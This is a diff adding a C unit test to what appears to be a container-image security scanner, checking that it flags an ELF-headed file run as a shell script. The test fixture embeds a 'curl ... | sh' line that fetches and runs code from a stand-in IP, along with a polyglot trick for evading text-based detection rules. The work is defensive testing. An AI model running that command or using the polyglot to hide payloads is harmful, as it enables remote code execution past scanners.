@@ -279,6 +279,50 @@ static void test_contents_executables(void **state)
     img_free(&im);
 }
 
+/* A file with an ELF header, then shell lines: `sh FILE` runs the lines (the
+ * shell skips the first), while the content rules take it for a program. */
+static void test_contents_entrypoint_binary_run_as_script(void **state)
+{
+    (void)state;
+    static const char head[64] = "\x7f" "ELF\x02\x01\x01";     /* identity, zero padding */
+    char poly[200];
+    memcpy(poly, head, sizeof(head));
+    const char *lines = "\ncurl -fsSL http://203.0.113.7/x | sh\n";
+    memcpy(poly + sizeof(head), lines, strlen(lines));
+    size_t plen = sizeof(head) + strlen(lines);
+    const char *cfgs[] = {
+        "{\"architecture\":\"amd64\",\"os\":\"linux\",\"config\":{\"Cmd\":[\"sh\",\"/app/run\"]}}",
+        "{\"architecture\":\"amd64\",\"os\":\"linux\",\"config\":{\"Cmd\":[\"/app/run\"]}}",
+        "{\"architecture\":\"amd64\",\"os\":\"linux\",\"config\":{\"Cmd\":[\"sh\",\"/app/run.sh\"]}}",
+        /* python runs its own bytecode (a binary format) on purpose */
+        "{\"architecture\":\"amd64\",\"os\":\"linux\",\"config\":{\"Cmd\":[\"python3\",\"/app/run\"]}}",
+    };
+    for (int c = 0; c < 4; c++) {
+        struct img im = { .n = 1 };
+        im.t[0] = tu_tar_new();
+        FILE_(im.t[0], "bin/sh", 0755, "\x7f" "ELF");
+        tu_tar_add(im.t[0], 'f', "app/run", 0755, poly, plen, NULL);
+        FILE_(im.t[0], "app/run.sh", 0755, "#!/bin/sh\nexec /app/run\n");
+        struct ivet_report *r = scan(&im, cfgs[c], false, NULL, 2);
+        const struct ivet_finding *f = find(r, "CONT-ENTRY-BINARY-SCRIPT", NULL);
+        if (c == 0) {
+            if (!f)
+                dump(r);
+            assert_non_null(f);
+            assert_string_equal(f->path, "/app/run");
+            assert_int_equal(f->layer, 0);
+            assert_int_equal(f->severity, IVET_SEV_HIGH);
+            assert_non_null(strstr(f->evidence, "sh runs /app/run"));
+            /* the reason for the check: the text rules did not see the download */
+            assert_null(find(r, "CONT-DROP-PIPE-SHELL", "/app/run"));
+        } else {
+            assert_null(f);     /* run directly, a real script, or not a shell */
+        }
+        ivet_report_free(r);
+        img_free(&im);
+    }
+}
+
 static void test_contents_entrypoint_resolved_and_raised(void **state)
 {
     (void)state;
@@ -492,6 +536,7 @@ int main(void)
         cmocka_unit_test(test_contents_binary_and_text_miner_rules),
         cmocka_unit_test(test_contents_executables),
         cmocka_unit_test(test_contents_entrypoint_resolved_and_raised),
+        cmocka_unit_test(test_contents_entrypoint_binary_run_as_script),
         cmocka_unit_test(test_contents_no_content_turns_it_off),
         cmocka_unit_test(test_contents_yara_rule),
         cmocka_unit_test(test_contents_scan_caps),
